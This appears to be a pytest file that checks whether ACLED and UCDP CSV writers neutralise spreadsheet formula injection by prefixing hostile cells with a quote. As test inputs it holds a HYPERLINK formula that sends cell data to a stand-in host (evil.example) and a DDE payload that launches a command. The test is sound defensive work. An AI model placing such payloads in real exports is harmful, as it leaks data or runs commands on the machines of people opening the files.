"""Spreadsheet formula injection (issue 11, item 5): ACLED and UCDP CSV cells that a spreadsheet
would run as a formula are written with a leading single quote, and the change is listed as
a loss of the row; plain negative numbers (coordinates, counts) are left as numbers."""

from __future__ import annotations

import csv
import io

import pytest

from truce.domain.reports import Report
from truce.formats.acled import write_acled
from truce.formats.common import WriteResult, neutralise_cell
from truce.formats.ucdp import write_ucdp

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _report(**fields: object) -> Report:
    plain = {
        "date_start": "2017-01-10",
        "date_end": "2017-01-10",
        "location_name": "Ain al-Fijah",
        "admin1": "Rural Damascus",
        "country": "Syria",
        "lat": -33.6153,
        "lon": -36.1829,
        "fatalities_best": 2,
        "event_type": "Explosions/Remote violence",
        "sub_event_type": "Shelling/artillery/missile attack",
        "sources": [{"name": "@SOHR"}],
        "actors": [{"name": "+Government forces", "role": "perpetrator"}],
        "notes": HOSTILE,
    }
    return Report.parse({**plain, **fields}).with_content_id()


@pytest.mark.parametrize("write", [write_acled, write_ucdp], ids=["acled", "ucdp"])
def test_hostile_cells_are_neutralised_and_listed_as_losses(write: object) -> None:
    report = _report()
    result: WriteResult = write([report])  # type: ignore[operator]
    rows = list(csv.reader(io.StringIO(result.text)))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], cells
    assert "'@SOHR" in cells and "'+Government forces" in cells
    if write is write_acled:  # UCDP has no column for the notes
        assert "'" + HOSTILE in cells
    # Negative coordinates are numbers, not formulas: written as they are.
    assert "-33.6153" in cells and "-36.1829" in cells
    formula = [loss for loss in result.losses if "spreadsheets" in loss.reason]
    assert formula and {loss.report_id for loss in formula} == {report.id}
    assert any("'@'" in loss.reason for loss in formula)


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-33.5", "-33.5"),
        ("-2", "-2"),
        ("1.5e-3", "1.5e-3"),
        ("Ain al-Fijah", "Ain al-Fijah"),
        ("", ""),
    ],
)
def test_neutralise_cell(cell: str, expected: str) -> None:
    assert neutralise_cell(cell) == expected
